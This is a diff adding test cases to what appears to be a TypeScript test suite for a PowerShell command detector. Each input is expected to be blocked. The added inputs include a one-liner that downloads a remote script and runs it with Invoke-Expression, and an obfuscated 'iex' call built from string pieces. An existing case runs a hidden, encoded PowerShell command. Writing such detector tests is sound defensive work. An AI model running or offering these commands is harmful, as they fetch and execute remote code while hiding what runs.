@@ -5,6 +5,12 @@ const encoded = (text: string) => Buffer.from(text, "utf16le").toString("base64"
 
 test.each([
   [
+    "a download in a variable",
+    "$c = (New-Object Net.WebClient).DownloadString('http://tools.dev/a.ps1'); Invoke-Expression $c",
+    "block remote_code:1",
+  ],
+  ["names from pieces", "& ('{1}{0}' -f 'ex','i') $text", "block disguised_command:1"],
+  [
     "an encoded program",
     `powershell -NoP -W Hidden -enc ${encoded("Write-Host harmless")}`,
     "block decoded_execution:1",
